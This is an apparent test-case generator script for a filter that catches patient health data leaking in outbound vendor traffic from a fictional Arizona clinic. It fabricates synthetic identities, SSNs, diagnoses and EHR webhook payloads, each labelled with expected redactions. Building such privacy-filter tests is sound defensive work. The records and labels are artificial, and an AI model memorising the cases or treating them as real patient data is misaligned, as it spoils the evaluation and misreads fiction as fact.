#!/usr/bin/env python3
"""probe21: outbound traffic of a family-medicine practice (Saguaro Family Medicine, Tucson AZ) in
vendor payloads none of the earlier probes (12-20) used:
  * EHR integration webhooks relayed to a care-coordination vendor, with athenaOne-, Elation-,
    DrChrono- and eClinicalWorks-like field names (patientid/enterpriseid, chart_id, ptAcctNo ...);
  * patient-portal SPA telemetry: LogRocket ingest (Redux actions, identify), FullStory bundles and
    the v2 users API, Datadog RUM with global/custom context, Mixpanel /import and /engage, Heap
    server-side track and user properties, Tealium EventStream collect;
  * CDP identify/alias calls with new trait names (Hightouch events, Freshpaint, Jitsu);
  * error trackers that block: TrackJS capture, AppSignal push, Exceptionless events;
  * structured logs: Rust tracing JSON, Go zap, .NET Serilog JsonFormatter, Python structlog (JSON and
    key=value), Log4j2 JSONLayout and JsonTemplateLayout/ECS, Kubernetes Events and audit events, to
    Axiom / Coralogix / SigNoz, one gzip-encoded;
  * IVR / call-center: Five9 contacts and call variables, Genesys Cloud participant attributes and
    speech-analytics transcripts;
  * online fax: SRFax Queue_Fax form with cover-page comments (and a base64 file), Phaxio multipart;
  * reminders / reputation: Weave appointment sync, Solutionreach recall CSV, Podium messages,
    Birdeye check-ins;
  * clearinghouse JSON (allow-all): Change Healthcare eligibility v3 / claim status / professional
    claims, Availity coverages form;
  * patient payment plans (InstaMed-, Rectangle-like), telehealth visit creation (VSee, Mend);
  * object storage and warehouses: S3 PUT (CSV, XML), GCS media upload (NDJSON), BigQuery insertAll,
    Snowflake SQL API with bindings and literals, Databricks statements / jobs, Stitch import, Fivetran
    webhooks;
  * ServiceNow / Freshservice incidents, Teams adaptive cards and Power Automate, Twilio Studio
    executions, SendGrid dynamic template data, Google Wallet / PassKit passes, lobby check-in
    kiosks (QR payloads, ID-card OCR), RPM device uploads (Dexcom-, Omron-like JSON), REDCap-like
    record imports to a research server (limited data set), eICR XML and a state case-report JSON
    (allow-all public health), AI agents' tool-call arguments (Groq, Together, Fireworks, an MCP server);
  * clean look-alikes (about a third): ids, order/claim numbers, UUIDs, timestamps, versions, prices,
    the practice's own phone / address / NPI, staff in signatures, catalog and health-education text,
    aggregate statistics, schemas whose keys are PHI words;
  * unknown hosts (deny).

The roster (roster.csv) lists only every other patient, so exact matching covers about half.
Values inside base64 that a vendor would decode but the harness cannot are listed as the base64 blob
itself, under the most sensitive category inside it.
Format of the output: see /work/shared/eval/gen_example.py (policy.json, cases.jsonl, roster.csv).
Usage: probe21_gen.py OUT_DIR   (deterministic: seed 210021)"""
import base64, gzip, hashlib, json, os, random, re, sys
from datetime import date, datetime, timedelta, timezone
from urllib.parse import quote, unquote_plus, urlsplit

R = random.Random(210021)

# ----------------------------------------------------------------------------- the practice
SITE = "saguarofm.com"
PORTAL = "https://portal.saguarofm.com"
PRACTICE = "Saguaro Family Medicine"
PRACTICE_ADDR = "1901 W Ina Rd Suite 300"
PRACTICE_CITY = "Tucson, AZ 85741"
PRACTICE_ZIP = "85741"
PRACTICE_PHONE = "(520) 742-3100"
PRACTICE_PHONE_DASH = "520-742-3100"
PRACTICE_FAX = "(520) 742-3101"
BUILD = "4.7.2"
STAFF = [("Renata", "Valdés-Ibarra", "MD"), ("Curtis", "Holloway", "DO"), ("Nizhoni", "Bitsui", "FNP-C"), ("Farid", "Haddadi", "MD"),
         ("Lorraine", "Peaches", "Office Manager"), ("Bryce", "Kettleman", "RN")]

# (first, middle, last, sex)
NAMES = [
    ("Shandiin", "", "Begay", "F"), ("Delbert", "Ray", "Yazzie", "M"), ("Graciela", "", "Villaseñor", "F"), ("Juan Pablo", "", "Ochoa Ibarra", "M"),
    ("Hodan", "", "Warsame", "F"), ("Abdirahman", "", "Farah", "M"), ("Pa Nhia", "", "Xiong", "F"), ("Tou", "", "Vang", "M"),
    ("Espérance", "", "Mukendi", "F"), ("Mohammad Nabi", "", "Sharifi", "M"), ("Oleksandr", "", "Bondarenko", "M"), ("Faleolo", "", "Tuiasosopo", "M"),
    ("Xiaoming", "", "Chen", "M"), ("Lakshmi", "", "Venkataraman", "F"), ("Maricel", "", "Dizon", "F"), ("Declan", "", "Mulcahy", "M"),
    ("Grzegorz", "", "Wiśniewski", "M"), ("Eleni", "", "Papadopoulou", "F"), ("Miriam", "", "Rosenbaum", "F"), ("Tyrell", "", "Washington", "M"),
    ("LaKeisha", "", "Simmons", "F"), ("Haruto", "", "Yamamoto", "M"), ("Seo-yeon", "", "Lim", "F"), ("Tigist", "", "Alemu", "F"),
    ("Chukwuemeka", "", "Obiora", "M"), ("Bernadette", "", "O'Malley", "F"), ("Rosario", "", "de los Santos", "F"), ("Ignacio", "", "Tapia", "M"),
    ("Hope", "", "Rivers", "F"), ("Grant", "", "Young", "M"), ("Dolores", "", "Encinas", "F"), ("Vernon", "", "Manuelito", "M"),
    ("Marisela", "", "Quiroz-Ledesma", "F"), ("Kwame", "", "Asante", "M"), ("Anh Thu", "", "Tran", "F"), ("Yevgenia", "", "Kuznetsova", "F"),
    ("Rangi", "", "Parata", "M"), ("Sunita", "", "Gurung", "F"), ("Kateri", "", "Antone", "F"), ("D'Angelo", "", "Ruiz", "M"),
]
AREAS = [520, 520, 520, 602, 480, 928]
STREETS = ["E Speedway Blvd", "N Oracle Rd", "S 6th Ave", "W Ajo Way", "E Broadway Blvd", "N Campbell Ave", "S Kolb Rd", "W Valencia Rd",
           "N Stone Ave", "E 22nd St", "S Park Ave", "E Fort Lowell Rd", "W Irvington Rd", "N Silverbell Rd", "E Tanque Verde Rd", "S Mission Rd"]
UNITS = ["Apt 14", "Unit 3102", "#B", "Spc 41", "Lot 17", "Apt 208", "Unit C", "Apt 5"]
CITIES = [("Tucson", ["85705", "85706", "85710", "85711", "85712", "85714", "85716", "85719", "85745", "85746", "85756"]), ("South Tucson", ["85713"]),
          ("Marana", ["85653"]), ("Oro Valley", ["85737"]), ("Sahuarita", ["85629"]), ("Sells", ["85634"]), ("Nogales", ["85621"])]
EMAIL_DOMAINS = ["gmail.com", "yahoo.com", "outlook.com", "icloud.com", "cox.net", "email.arizona.edu", "hotmail.com", "aol.com", "proton.me"]
CONDS = [  # icd10, diagnosis text, med
    ("B38.9", "coccidioidomycosis", "fluconazole"), ("E11.65", "type 2 diabetes with hyperglycemia", "semaglutide"), ("F41.1", "generalized anxiety disorder", "buspirone"),
    ("B20", "HIV disease", "Biktarvy"), ("F11.20", "opioid use disorder", "Suboxone"), ("O24.414", "gestational diabetes", "insulin aspart"),
    ("C61", "prostate cancer", "leuprolide"), ("G30.9", "Alzheimer's disease", "donepezil"), ("K70.30", "alcoholic cirrhosis", "spironolactone"),
    ("F33.2", "severe major depression", "venlafaxine"), ("I50.22", "chronic systolic heart failure", "sacubitril-valsartan"), ("A15.0", "pulmonary tuberculosis", "rifampin"),
    ("F90.0", "ADHD", "methylphenidate"), ("N97.9", "female infertility", "letrozole"), ("E66.01", "morbid obesity", "tirzepatide"), ("F84.0", "autism", "aripiprazole"),
    ("J45.50", "severe persistent asthma", "dupilumab"), ("F50.2", "bulimia nervosa", "fluoxetine"),
]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]
ES_M = ["enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto", "septiembre", "octubre", "noviembre", "diciembre"]
ONES = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
UA = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"
UA_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def alnum(n, chars="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(chars) for _ in range(n))


def digits(n):
    return str(R.randint(1, 9)) + "".join(str(R.randint(0, 9)) for _ in range(n - 1))


def uuid():
    h = "%032x" % R.getrandbits(128)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{R.choice('89ab')}{h[17:20]}-{h[20:]}"


def sha(s):
    return hashlib.sha256(s.encode()).hexdigest()


def luhn_ok(num):
    tot = 0
    for i, ch in enumerate(reversed(num)):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9: d -= 9
        tot += d
    return tot % 10 == 0


def card(prefix, n=16):
    body = prefix + "".join(str(R.randint(0, 9)) for _ in range(n - len(prefix) - 1))
    for c in "0123456789":
        if luhn_ok(body + c): return body + c


def npi_check(base9):
    s = "80840" + base9; tot = 0
    for i, ch in enumerate(reversed(s)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9: d -= 9
        tot += d
    return base9 + str((10 - tot % 10) % 10)


GROUP_NPI = npi_check("1" + digits(8))
STAFF_NPI = [npi_check("1" + digits(8)) for _ in STAFF]
TAX_ID = f"86-{digits(7)}"


def staff(i, style="dr"):
    f, l, c = STAFF[i % len(STAFF)]
    if style == "dr": return f"Dr. {f} {l}" if c in ("MD", "DO") else f"{f} {l}, {c}"
    if style == "full": return f"{f} {l}, {c}"
    if style == "email": return f"{f[0].lower()}{re.sub('[^a-z]', '', l.lower())}@{SITE}"
    if style == "last": return l
    if style == "npi": return STAFF_NPI[i % len(STAFF)]
    return f"{f} {l}"


def fd(d, style):
    m, dd, y = d.month, d.day, d.year
    sfx = "th" if 11 <= dd <= 13 else {1: "st", 2: "nd", 3: "rd"}.get(dd % 10, "th")
    return {"iso": f"{y}-{m:02d}-{dd:02d}", "us": f"{m:02d}/{dd:02d}/{y}", "usn": f"{m}/{dd}/{y}", "us2": f"{m}/{dd}/{y % 100:02d}",
            "dot": f"{dd:02d}.{m:02d}.{y}", "dmon": f"{dd} {MONTHS[m - 1][:3]} {y}", "long": f"{MONTHS[m - 1]} {dd}, {y}",
            "longth": f"{MONTHS[m - 1]} {dd}{sfx} {y}", "d8": f"{y}{m:02d}{dd:02d}", "isoz": f"{y}-{m:02d}-{dd:02d}T00:00:00.000Z",
            "epoch": str(int(datetime(y, m, dd, tzinfo=timezone.utc).timestamp())), "dash": f"{m:02d}-{dd:02d}-{y}",
            "ymds": f"{y}/{m:02d}/{dd:02d}", "ora": f"{dd:02d}-{MONTHS[m - 1][:3].upper()}-{y}", "mon": f"{MONTHS[m - 1][:3]} {dd}, {y}",
            "dmy": f"{dd:02d}/{m:02d}/{y}", "mdy8": f"{m:02d}{dd:02d}{y}", "es": f"{dd} de {ES_M[m - 1]} de {y}",
            "spoken": f"{MONTHS[m - 1].lower()} {dd} {y}"}[style]


def ssn():
    a = R.choice([R.randint(526, 527), R.randint(600, 665), R.randint(100, 499), R.randint(667, 772), R.randint(500, 599)])
    return f"{a:03d}-{R.randint(1, 99):02d}-{R.randint(1, 9999):04d}"


def mbi():
    L = "ACDEFGHJKMNPQRTUVWXY"; A = L + "0123456789"
    return "".join([str(R.randint(1, 9)), R.choice(L), R.choice(A), str(R.randint(0, 9)), R.choice(L), R.choice(A),
                    str(R.randint(0, 9)), R.choice(L), R.choice(L), str(R.randint(0, 9)), str(R.randint(0, 9))])


def member_id():
    k = R.randint(0, 6)
    if k == 0: return "AHCCCS", "A" + digits(8)
    if k == 1: return "Blue Cross Blue Shield of Arizona", "YHP" + digits(9)
    if k == 2: return "UnitedHealthcare", digits(9) + "01"
    if k == 3: return "Aetna", "W" + digits(9)
    if k == 4: return "Cigna", "U" + digits(8) + "01"
    if k == 5: return "Banner Health Plans", "BHP" + digits(8)
    return "Humana", "H" + digits(8)


class P:
    def __init__(self, idx, first, middle, last, sex):
        self.idx, self.first, self.middle, self.last, self.sex = idx, first, middle, last, sex
        self.full = f"{first} {last}"
        self.dob = date(1941, 1, 1) + timedelta(days=R.randint(0, 26000))
        self.mrn = f"SFM{R.randint(10**6, 10**7 - 1)}"                    # the practice's own MRN format
        self.ehr_id = str(R.randint(10**5, 10**6 - 1))                     # athena-like patientid
        self.chart = re.sub("[^A-Z]", "", (first[:2] + last[:2]).upper()).ljust(4, "X")[:4] + f"{R.randint(1, 99999):06d}"   # DrChrono-like chart_id
        self.area = R.choice(AREAS)
        self.exch = R.choice([x for x in range(201, 990) if x % 100 != 11 and x not in (555, 742, 958, 976)])
        self.line = R.randint(1000, 9999)
        fl = re.sub(r"[^a-z]", "", first.lower().replace("é", "e")); ll = re.sub(r"[^a-z]", "", last.lower().replace("ñ", "n").replace("ś", "s"))
        loc = R.choice([f"{fl}.{ll}", f"{fl[0]}{ll}", f"{fl}{ll[:3]}{R.randint(1, 99)}", f"{ll}.{fl[0]}{R.randint(60, 99)}", f"{fl}_{ll}",
                        R.choice(["desertrose", "saguarosunset", "wildcatfan", "monsoonmama", "catalinahiker"]) + str(R.randint(1, 999))])
        self.email = f"{loc}@{R.choice(EMAIL_DOMAINS)}"
        self.ssn = ssn()
        self.city, zips = R.choice(CITIES)
        self.zip = R.choice(zips)
        self.zip4 = f"{self.zip}-{R.randint(1000, 9899)}"
        self.street = f"{R.randint(100, 9999)} {R.choice(STREETS)}"
        self.unit = R.choice(UNITS)
        self.payer, self.mbr = member_id()
        self.mbi = mbi()
        self.cond = R.choice(CONDS)
        d0 = date(2026, 4, 13) + timedelta(days=R.randint(0, 45))
        while d0.weekday() > 4: d0 += timedelta(days=1)
        self.appt = datetime(d0.year, d0.month, d0.day, R.randint(8, 16), R.choice([0, 15, 30, 45]))
        self.ip = f"{R.choice([68, 70, 72, 98, 174, 184, 24, 150])}.{R.randint(1, 254)}.{R.randint(1, 254)}.{R.randint(1, 254)}"
        self.dl = R.choice("ABDY") + digits(8)

    def phone(self, style="dash"):
        a, e, l = self.area, self.exch, self.line
        return {"paren": f"({a}) {e}-{l}", "dash": f"{a}-{e}-{l}", "dot": f"{a}.{e}.{l}", "e164": f"+1{a}{e}{l}", "bare": f"{a}{e}{l}",
                "one": f"1-{a}-{e}-{l}", "spc": f"{a} {e} {l}", "intl": f"+1 {a} {e} {l}", "tight": f"({a}){e}-{l}", "slash": f"{a}/{e}-{l}",
                "plusdash": f"+1-{a}-{e}-{l}", "words": f"{' '.join(ONES[int(c)] for c in str(a))}, {' '.join(ONES[int(c)] for c in str(e))}, "
                                                       f"{' '.join(ONES[int(c)] for c in str(l))}"}[style]

    def dobs(self, style="iso"):
        return fd(self.dob, style)

    def ad(self, style="iso"):
        return fd(self.appt.date(), style)

    def at(self, style="off"):
        a = self.appt
        if style == "off": return f"{a:%Y-%m-%dT%H:%M}:00-07:00"
        if style == "z": return (a + timedelta(hours=7)).strftime("%Y-%m-%dT%H:%M:00Z")
        if style == "human": return f"{MONTHS[a.month - 1]} {a.day} at {a.hour % 12 or 12}:{a.minute:02d} {'AM' if a.hour < 12 else 'PM'}"
        if style == "sp": return f"{a:%Y-%m-%d %H:%M}"
        return f"{a:%Y-%m-%d %H:%M}"

    def age(self, on=date(2026, 4, 2)):
        return on.year - self.dob.year - ((on.month, on.day) < (self.dob.month, self.dob.day))

    def dx(self): return self.cond[1]
    def icd(self): return self.cond[0]
    def med(self): return self.cond[2]


PATIENTS = [P(i, f, m, l, s) for i, (f, m, l, s) in enumerate(NAMES)]
PATIENTS[30].dob = date(1929, 11, 3)     # Dolores Encinas, 96
PATIENTS[31].dob = date(1933, 6, 21)     # Vernon Manuelito, 92
ELDERS = [PATIENTS[30], PATIENTS[31]]
_order = [i for i in range(len(PATIENTS)) if i not in (28, 29, 30, 31)]   # the word-names and the elders are used by hand
_pos = [0]


def nextp():
    if _pos[0] % len(_order) == 0: R.shuffle(_order)
    p = PATIENTS[_order[_pos[0] % len(_order)]]; _pos[0] += 1
    return p


def tstamp(i=0):
    return datetime(2026, 4, 2, 8, 5, 11) + timedelta(minutes=17 * i + R.randint(0, 15), seconds=R.randint(0, 59))


def ts(i=0):
    return tstamp(i).strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randint(0, 999):03d}Z"


def epoch(i=0):
    return 1775117000 + i * 1020 + R.randint(0, 900)


def claim_no():
    return f"CLM{R.randint(10**8, 10**9 - 1)}"


# ----------------------------------------------------------------------------- case plumbing
CASES, COUNT = [], {}


def add(scn, method, url, headers, body, phi, controls, expect):
    COUNT[scn] = COUNT.get(scn, 0) + 1
    c = {"id": f"{scn}-{COUNT[scn]:02d}", "scenario": scn, "method": method, "url": url, "headers": dict(headers)}
    if isinstance(body, bytes):
        c["body_b64"] = base64.b64encode(body).decode()
    else:
        c["body"] = body
    seen, out = set(), []
    for v, k in phi:
        if (v, k) not in seen: seen.add((v, k)); out.append([v, k])
    c["phi"] = out; c["controls"] = list(dict.fromkeys(controls)); c["expect"] = expect
    CASES.append(c)


def J(o, ascii_=False, compact=False, indent=None):
    return json.dumps(o, ensure_ascii=ascii_, separators=(",", ":") if compact else None, indent=indent)


def ND(objs):
    return "\n".join(J(o, compact=True) for o in objs) + "\n"


def form(pairs):
    return "&".join(f"{quote(k, safe='[]')}={quote(str(v), safe=' ').replace(' ', '+')}" for k, v in pairs)


def qs(pairs):
    return "&".join(f"{quote(k, safe='.[]$')}={quote(str(v), safe='')}" for k, v in pairs)


def b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def gz(s):
    return gzip.compress(s.encode() if isinstance(s, str) else s, mtime=0)


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def multipart(parts, boundary):
    out = []
    for name, fn, ctype, data in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{fn}"' if fn else "")
        out.append(f"--{boundary}\r\nContent-Disposition: {disp}\r\n" + (f"Content-Type: {ctype}\r\n" if ctype else "") + f"\r\n{data}\r\n")
    return "".join(out) + f"--{boundary}--\r\n"


JSONH = {"Content-Type": "application/json"}
FORMH = {"Content-Type": "application/x-www-form-urlencoded"}
TEXTH = {"Content-Type": "text/plain; charset=utf-8"}
CSVH = {"Content-Type": "text/csv; charset=utf-8"}
XMLH = {"Content-Type": "application/xml; charset=utf-8"}
NDH = {"Content-Type": "application/x-ndjson"}


def NM(p):
    return [[p.first, "name"], [p.last, "name"]]


# destinations (hosts)
LR = "http://r.lr-ingest.io"
FS = "http://rs.fullstory.com"
FSAPI = "http://api.fullstory.com"
DDRUM = "http://browser-intake-us5-datadoghq.com"
MP = "http://api.mixpanel.com"
HEAP = "http://heapanalytics.com"
TEAL = "http://collect.tealiumiq.com"
HT = "http://us-east-1.hightouch-events.com"
FP = "http://api.perfalytics.com"
JIT = "http://sfm-portal.jitsu.com"
TJS = "http://capture.trackjs.com"
APS = "http://push.appsignal.com"
EXL = "http://collector.exceptionless.io"
AXI = "http://api.axiom.co"
CRX = "http://ingress.us2.coralogix.com"
SIG = "http://ingest.us.signoz.cloud"
CARE = "http://api.carenav-hub.example"
F9 = "http://api.five9.com"
GEN = "http://api.usw2.pure.cloud"
SRF = "http://www.srfax.com"
PHX = "http://api.phaxio.com"
WEAVE = "http://api.weaveconnect.com"
SR = "http://api.solutionreach.com"
POD = "http://api.podium.com"
BEYE = "http://api.birdeye.com"
CHC = "http://apigw.changehealthcare.com"
AVL = "http://api.availity.com"
IMED = "http://api.instamed.com"
RECT = "http://api.rectanglehealth.com"
VSEE = "http://api.vsee.com"
MEND = "http://api.mend.com"
S3 = "http://sfm-deid-exports.s3.us-west-2.amazonaws.com"
GCS = "http://storage.googleapis.com"
BQ = "http://bigquery.googleapis.com"
SNOW = "http://sfm41207.us-west-2.snowflakecomputing.com"
DBX = "http://dbc-4f21a9c3-77e1.cloud.databricks.com"
STITCH = "http://api.stitchdata.com"
FIVE = "http://webhooks.fivetran.com"
SNOWN = "http://saguarofm.service-now.com"
FRS = "http://saguarofm.freshservice.com"
TEAMS = "http://saguarofm.webhook.office.com"
PAUTO = "http://prod-27.westus.logic.azure.com"
STUDIO = "http://studio.twilio.com"
SG = "http://api.sendgrid.com"
GWAL = "http://walletobjects.googleapis.com"
PKIT = "http://api.pub1.passkit.io"
KIOSK = "http://api.lobbycheck.example"
RPM = "http://ingest.vitalsync-rpm.example"
RED = "http://redcap.sonoran-research.example"
ECR = "http://ecr.aimsplatform.org"
ADHS = "http://medsis.azdhs.example"
GROQ = "http://api.groq.com"
TOG = "http://api.together.xyz"
FWK = "http://api.fireworks.ai"
MCP = "http://mcp.slotfinder-agent.example"


# ============================================================================= 1. EHR webhooks relayed to a care-coordination vendor
def ehr_webhooks():
    S = "ehr_webhook_athena"
    p = nextp()
    body = {"eventType": "PATIENT.UPDATED", "practiceid": "195900", "departmentid": "12", "eventdatetime": ts(1),
            "data": {"patientid": p.ehr_id, "enterpriseid": p.ehr_id, "firstname": p.first, "lastname": p.last, "dob": p.dobs("us"),
                     "mobilephone": p.phone("bare"), "email": p.email, "address1": p.street, "address2": p.unit, "city": p.city.upper(), "state": "AZ",
                     "zip": p.zip4, "ssn": p.ssn.replace("-", ""), "primarydepartmentid": "12",
                     "insurances": [{"insurancepackageid": 14822, "insuranceidnumber": p.mbr, "insuranceplanname": p.payer}]}}
    add(S, "POST", f"{CARE}/v1/inbound/athena", JSONH, J(body), NM(p) + [[p.ehr_id, "mrn"], [p.dobs("us"), "dob"], [p.phone("bare"), "phone"],
        [p.email, "email"], [p.street, "address"], [p.zip4, "zip"], [p.ssn.replace("-", ""), "ssn"], [p.mbr, "member_id"]], ["PATIENT.UPDATED", "195900"], "redact")
    p = nextp()
    note = (f"Pt called re: move. New address {p.street} {p.unit}, {p.city} AZ {p.zip}. Cell unchanged {p.phone('paren')}. "
            f"Wants {p.med()} sent to new pharmacy. -- {staff(5, 'full')}")
    body = {"eventType": "CLINICAL.DOCUMENT.ADDED", "practiceid": "195900", "data": {"patientid": p.ehr_id, "documentclass": "PHONEMESSAGE",
            "documentsubclass": "PHONEMESSAGE_PATIENTCALL", "internalnote": note, "createddatetime": "04/02/2026 09:41:07"}}
    add(S, "POST", f"{CARE}/v1/inbound/athena", JSONH, J(body), [[p.ehr_id, "mrn"], [p.street, "address"], [p.zip, "zip"], [p.phone("paren"), "phone"]],
        ["PHONEMESSAGE_PATIENTCALL", staff(5, "full")], "redact")
    p = nextp()
    body = {"eventType": "APPOINTMENT.CANCELLED", "practiceid": "195900", "data": {"appointmentid": digits(7), "patientid": p.ehr_id,
            "appointmentdate": p.ad("us"), "starttime": f"{p.appt:%H:%M}", "appointmenttype": "FOLLOW UP", "cancelreason": "PATIENT NO LONGER HAS COVERAGE",
            "patient": {"firstname": p.first.upper(), "lastname": p.last.upper(), "insurancememberid": p.mbr, "emailaddress": p.email}}}
    add(S, "POST", f"{CARE}/v1/inbound/athena", JSONH, J(body), NM(p) + [[p.ehr_id, "mrn"], [p.ad("us"), "date"], [p.mbr, "member_id"], [p.email, "email"]],
        ["APPOINTMENT.CANCELLED", "PATIENT NO LONGER HAS COVERAGE"], "redact")

    S = "ehr_webhook_elation"
    p = nextp(); eid = str(R.randint(140000000000000, 149999999999999))
    body = {"event_type": "saved", "resource": "appointments", "data": {"id": int(digits(15)), "scheduled_date": p.at("off"), "duration": 20,
            "reason": f"{p.dx()} follow up", "patient": int(eid), "physician": int(digits(12)), "status": {"status": "Scheduled"},
            "patient_details": {"first_name": p.first, "last_name": p.last, "dob": p.dobs("iso"), "primary_phone": p.phone("dash"), "primary_email": p.email,
                                "address": {"address_line1": p.street, "address_line2": p.unit, "city": p.city, "state": "AZ", "zip": p.zip}}}}
    add(S, "POST", f"{CARE}/v1/inbound/elation", JSONH, J(body), NM(p) + [[eid, "mrn"], [p.at("off"), "date"], [p.dx(), "condition"], [p.dobs("iso"), "dob"],
        [p.phone("dash"), "phone"], [p.email, "email"], [p.street, "address"], [p.zip, "zip"]], ["appointments"], "redact")
    p = nextp(); eid = str(R.randint(140000000000000, 149999999999999))
    body = {"event_type": "saved", "resource": "problems", "data": {"id": int(digits(15)), "patient": int(eid), "description": p.dx(), "status": "Active",
            "start_date": "2024-09-30", "dx": [{"icd10": [p.icd()], "snomed": str(R.randint(10**7, 10**9))}], "synopsis": ""}}
    add(S, "POST", f"{CARE}/v1/inbound/elation", JSONH, J(body), [[eid, "mrn"], [p.dx(), "condition"], [p.icd(), "icd10"]], ["problems"], "pass")
    p = nextp(); eid = str(R.randint(140000000000000, 149999999999999))
    body = {"event_type": "saved", "resource": "patients", "data": {"id": int(eid), "first_name": p.first, "middle_name": p.middle, "last_name": p.last,
            "sex": "Female" if p.sex == "F" else "Male", "dob": p.dobs("iso"), "ssn": p.ssn, "emails": [{"email": p.email}],
            "phones": [{"phone": p.phone("paren"), "phone_type": "Mobile"}], "insurances": [{"rank": "primary", "carrier": p.payer, "member_id": p.mbr}],
            "preference": {"preferred_language": "Somali" if p.idx in (4, 5) else "English"}}}
    add(S, "POST", f"{CARE}/v1/inbound/elation", JSONH, J(body), NM(p) + [[eid, "mrn"], [p.dobs("iso"), "dob"], [p.ssn, "ssn"], [p.email, "email"],
        [p.phone("paren"), "phone"], [p.mbr, "member_id"]], [p.payer], "redact")

    S = "ehr_webhook_drchrono"
    p = nextp()
    body = {"event": "PATIENT_MODIFY", "object": {"id": int(digits(8)), "chart_id": p.chart, "first_name": p.first, "middle_name": p.middle, "last_name": p.last,
            "date_of_birth": p.dobs("iso"), "cell_phone": p.phone("paren"), "email": p.email, "address": f"{p.street} {p.unit}", "city": p.city, "state": "AZ",
            "zip_code": p.zip, "social_security_number": p.ssn, "driver_license": p.dl, "doctor": int(digits(6)), "office": 301122,
            "primary_insurance": {"insurance_payer_name": p.payer, "insurance_id_number": p.mbr, "insurance_group_number": "0071234"}}}
    add(S, "POST", f"{CARE}/v1/inbound/drchrono", {**JSONH, "X-drchrono-Signature": hexs(64), "X-drchrono-Event": "PATIENT_MODIFY"}, J(body),
        NM(p) + [[p.chart, "mrn"], [p.dobs("iso"), "dob"], [p.phone("paren"), "phone"], [p.email, "email"], [p.street, "address"], [p.zip, "zip"],
                 [p.ssn, "ssn"], [p.dl, "drivers_license"], [p.mbr, "member_id"]], ["PATIENT_MODIFY"], "redact")
    p = nextp()
    body = {"event": "CLINICAL_NOTE_LOCK", "object": {"appointment": int(digits(9)), "patient": p.chart, "clinical_note_sections": [
        {"section": "HPI", "values": [{"value": f"{p.first} is a {p.age()} y/o seen for {p.dx()}. Reports good adherence to {p.med()}."}]},
        {"section": "Plan", "values": [{"value": f"Recheck in 3 months. Call {p.phone('dot')} with labs."}]}]}}
    add(S, "POST", f"{CARE}/v1/inbound/drchrono", {**JSONH, "X-drchrono-Event": "CLINICAL_NOTE_LOCK"}, J(body),
        [[p.chart, "mrn"], [p.first, "name"], [p.dx(), "condition"], [p.phone("dot"), "phone"]], ["CLINICAL_NOTE_LOCK", "HPI"], "pass")

    S = "ehr_webhook_ecw"
    p = nextp(); acct = str(R.randint(10**5, 10**6 - 1))
    body = {"MessageType": "EncounterLocked", "ControlNo": acct, "ptFname": p.first, "ptLname": p.last, "ptDOB": p.dobs("us"), "ptSSN": p.ssn.replace("-", ""),
            "ptHomePhone": p.phone("tight"), "ptAddress1": p.street, "ptAddress2": p.unit, "ptCity": p.city, "ptState": "AZ", "ptZip": p.zip,
            "encounterDate": p.ad("us"), "VisitType": "DM F/U", "Assessments": [{"ICDCode": p.icd(), "ICDDesc": p.dx()}],
            "Ins": {"primary": {"InsName": p.payer, "SubscriberNo": p.mbr}}, "ProviderNPI": staff(0, "npi")}
    add(S, "POST", f"{CARE}/v1/inbound/ecw", JSONH, J(body), NM(p) + [[acct, "mrn"], [p.dobs("us"), "dob"], [p.ssn.replace("-", ""), "ssn"],
        [p.phone("tight"), "phone"], [p.street, "address"], [p.zip, "zip"], [p.ad("us"), "date"], [p.icd(), "icd10"], [p.dx(), "condition"], [p.mbr, "member_id"]],
        ["EncounterLocked", staff(0, "npi")], "redact")
    p = nextp(); acct = str(R.randint(10**5, 10**6 - 1)); s2 = p.ssn.replace("-", " ")
    body = {"MessageType": "LabResultReceived", "ControlNo": acct, "LabCompany": "Sonora Quest", "OrderNo": "SQ" + digits(9),
            "Comments": f"Lab demographics mismatch: lab has SSN {s2} for {p.last.upper()}, {p.first.upper()}; chart has none. Verify with pt at {p.phone('dash')}."}
    add(S, "POST", f"{CARE}/v1/inbound/ecw", JSONH, J(body), NM(p) + [[acct, "mrn"], [s2, "ssn"], [p.phone("dash"), "phone"]],
        ["LabResultReceived", "Sonora Quest"], "redact")

    S = "ehr_webhook_clean"
    add(S, "POST", f"{CARE}/v1/inbound/athena", JSONH, J({"eventType": "SUBSCRIPTION.HEARTBEAT", "practiceid": "195900", "eventdatetime": ts(4),
        "subscriptions": ["PATIENT", "APPOINTMENT", "CLINICALDOCUMENT"], "leaseid": uuid()}), [], ["SUBSCRIPTION.HEARTBEAT", "195900"], "pass")
    body = {"event_type": "saved", "resource": "physicians", "data": [{"id": int(digits(12)), "first_name": STAFF[i][0], "last_name": STAFF[i][1],
            "credentials": STAFF[i][2], "npi": STAFF_NPI[i], "specialty": "Family Medicine", "practice": 195900} for i in range(3)]}
    add(S, "POST", f"{CARE}/v1/inbound/elation", JSONH, J(body), [], [STAFF_NPI[0], STAFF[1][1], STAFF_NPI[2]], "pass")
    body = {"event": "OFFICE_MODIFY", "object": {"id": 301122, "name": PRACTICE, "address": PRACTICE_ADDR, "city": "Tucson", "state": "AZ",
            "zip_code": PRACTICE_ZIP, "phone_number": PRACTICE_PHONE, "fax_number": PRACTICE_FAX, "online_scheduling": True,
            "exam_rooms": [{"index": i, "name": f"Exam {i}"} for i in range(1, 7)]}}
